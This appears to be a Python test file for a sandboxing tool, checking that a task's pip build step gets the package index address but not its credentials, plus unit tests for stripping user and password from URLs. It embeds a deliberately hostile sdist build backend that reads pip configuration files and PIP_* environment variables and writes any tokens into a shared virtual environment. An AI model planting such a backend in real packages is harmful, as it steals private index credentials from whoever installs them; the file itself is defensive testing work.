"""A task's `pip install` build step is not given the host's pip credentials (breaker30).

The build step is the one sandbox with the network, and it runs the build code of whatever the task names: an
sdist's build backend read the host's `/etc/pip.conf`, `/etc/xdg/pip` and `PIP_*` variables as they were, a
private index's token included, and could send it out, or (as here, with no network needed) write it into the
virtual environment every agent of the task is shown. The test plants an sdist whose in-tree backend does that
(in a private mount namespace over the host's wheel folder, as `test_pip_config_hidden` plants the
configuration) and a token in the configuration and in `PIP_EXTRA_INDEX_URL`; the agent copies what the build
left, and the verifier scores 1 only when the index's address reached the build without its token.
"""

from __future__ import annotations

import io
import json
import shutil
import tarfile
import uuid
from pathlib import Path

import pytest
from runner_helpers import ab_over_planted_host_files, make_task

from memeval.errors import UsageError
from memeval.sandbox._pipconf import CREDENTIALS_ENV, credentials_handed, without_credentials

TOKEN = "planted-index-token-30c9d4"
WHEELS = next((p for p in ("/opt/wheels", "/opt/pypi", "/opt/pypi-more") if Path(p).is_dir()), None)
BACKEND = """
import glob, os, zipfile

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    seen = []
    for p in ["/etc/pip.conf", *sorted(glob.glob("/etc/xdg/pip/*"))]:
        try:
            seen.append(open(p).read())
        except OSError:
            pass
    seen += ["%s=%s" % kv for kv in sorted(os.environ.items()) if kv[0].startswith("PIP_")]
    open("/opt/memeval/venv/leak.txt", "w").write("\\n".join(seen))
    name = "evil-1.0-py3-none-any.whl"
    meta = {
        "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n",
        "evil-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for k, v in meta.items():
            z.writestr(k, v)
        z.writestr("evil-1.0.dist-info/RECORD", "".join(k + ",,\\n" for k in meta) + "evil-1.0.dist-info/RECORD,,\\n")
    return name
"""
PYPROJECT = '[build-system]\nrequires = []\nbuild-backend = "evilbackend"\nbackend-path = ["."]\n'
AGENT = "cat /opt/memeval/venv/leak.txt > /app/seen 2>&1; true"
CHECK = (
    f"if grep -q index.invalid /app/seen && grep -q extra.invalid /app/seen && ! grep -q {TOKEN} /app/seen; "
    "then echo 1; else echo 0; fi > /logs/verifier/reward.txt\n"
)


def _sdist(path: Path) -> None:
    with tarfile.open(path, "w:gz") as tar:
        for name, text in (("pyproject.toml", PYPROJECT), ("evilbackend.py", BACKEND), ("PKG-INFO", "Name: evil\n")):
            data = text.encode()
            info = tarfile.TarInfo(f"evil-1.0/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


def test_the_build_step_of_a_task_package_sees_the_index_but_not_its_credentials(tmp_path: Path) -> None:
    if shutil.which("unshare") is None or WHEELS is None or not Path("/etc/pip.conf").exists():
        pytest.skip("needs unshare(1), /etc/pip.conf and a wheel folder memeval binds into build steps to plant over")
    wheels = tmp_path / "wheels"
    sub = uuid.uuid4().hex  # a venv's cache key is its pip arguments: a folder of its own builds afresh
    (wheels / sub).mkdir(parents=True)
    _sdist(wheels / sub / "evil-1.0.tar.gz")
    dockerfile = f"WORKDIR /app\nRUN pip install --no-index {WHEELS}/{sub}/evil-1.0.tar.gz\n"
    make_task(tmp_path / "tasks", "t", test_sh=CHECK, dockerfile=dockerfile)
    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / "pip.conf").write_text(f"[global]\nindex-url = https://user:{TOKEN}@index.invalid/simple\n")
    binds = [(planted / "pip.conf", "/etc/pip.conf"), (wheels, WHEELS)]
    env = {"PIP_EXTRA_INDEX_URL": f"https://{TOKEN}@extra.invalid/simple", CREDENTIALS_ENV: ""}
    res = ab_over_planted_host_files(tmp_path, AGENT, binds, env_add=env)
    trials = json.loads(res.stdout)["trials"]
    assert len(trials) == 2, res.stderr
    for t in trials:  # before: 0 (the build's backend read the token and left it in the venv)
        assert t["fault"] is None and t["verified"] is True, t


def test_a_url_keeps_all_but_its_user_and_password() -> None:
    assert without_credentials("index-url = https://u:p@ss@host:8443/simple?x=1") == (
        "index-url = https://host:8443/simple?x=1"
    )
    assert without_credentials("PIP_PROXY=http://me:pw@proxy:3128") == "PIP_PROXY=http://proxy:3128"
    plain = "find-links = file:///opt/wheels\nextra-index-url = https://pypi.org/simple\ncontact = a@b.c"
    assert without_credentials(plain) == plain


def test_the_setting_takes_0_or_1_only(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(CREDENTIALS_ENV, "yes")
    with pytest.raises(UsageError, match=f"{CREDENTIALS_ENV}='yes' is not 0 or 1"):
        credentials_handed()
    monkeypatch.setenv(CREDENTIALS_ENV, "1")
    assert credentials_handed()
